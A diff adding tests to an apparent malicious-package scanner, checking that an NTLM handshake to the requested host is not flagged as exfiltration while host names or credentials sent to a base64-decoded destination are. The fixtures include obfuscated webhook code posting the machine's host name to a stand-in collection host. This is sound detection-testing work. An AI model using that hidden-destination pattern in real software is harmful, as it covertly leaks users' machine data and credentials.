@@ -5091,3 +5091,68 @@ def test_a_credential_store_read_in_code_beside_help_text_is_still_theft(old, ne
     assert old in module
     files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chats.py": module.replace(old, new)}
     assert found(scan(files), "intent.credential-theft")
+
+
+# -- decoded data sent where the caller asks is not a hidden destination -------------------------
+
+NTLM_HANDLER = """
+    import base64
+    import http.client
+    import socket
+
+    def negotiate(user):
+        return base64.b64encode(b"NTLMSSP\\0" + user.encode()).decode()
+
+    def respond(challenge, user, password):
+        blob = challenge + user.encode() + password.encode() + socket.gethostname().encode()
+        return base64.b64encode(blob).decode()
+
+    class NtlmAuthHandler:
+        def retry(self, req, user, password):
+            conn = http.client.HTTPSConnection(req.host)
+            conn.request("GET", req.selector, headers={"Authorization": "NTLM " + negotiate(user)})
+            reply = conn.getresponse()
+            challenge = base64.b64decode(reply.getheader("WWW-Authenticate")[5:])
+            answer = respond(challenge, user, password)
+            conn.request("GET", req.selector, headers={"Authorization": "NTLM " + answer})
+            return conn.getresponse()
+"""
+
+
+def test_a_handshake_sending_decoded_data_and_the_host_name_where_asked_is_not_exfiltration():
+    """arelle's NTLM proxy handler: the server's decoded challenge is answered with the user's
+    credentials and this workstation's name, to the host the request was for."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/ntlm.py": NTLM_HANDLER}
+    result = scan(files)
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+HIDDEN_HOOK = """
+    import base64
+    import socket
+    import requests
+
+    class Reporter:
+        def __init__(self):
+            self.webhook = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2hvb2s=").decode()
+
+        def report(self):
+            return requests.post(self.webhook, json={"host": socket.gethostname()})
+"""
+
+
+@pytest.mark.parametrize(
+    "module",
+    [
+        # a connection made for a decoded host, or a webhook another method decoded
+        NTLM_HANDLER.replace(
+            "HTTPSConnection(req.host)",
+            'HTTPSConnection(base64.b64decode("Y29sbGVjdC5leGFtcGxlLm5ldA==").decode())',
+        ),
+        HIDDEN_HOOK,
+    ],
+)
+def test_host_identity_sent_to_a_decoded_destination_is_still_exfiltration(module):
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/send.py": module}
+    assert found(scan(files), "intent.exfiltration")
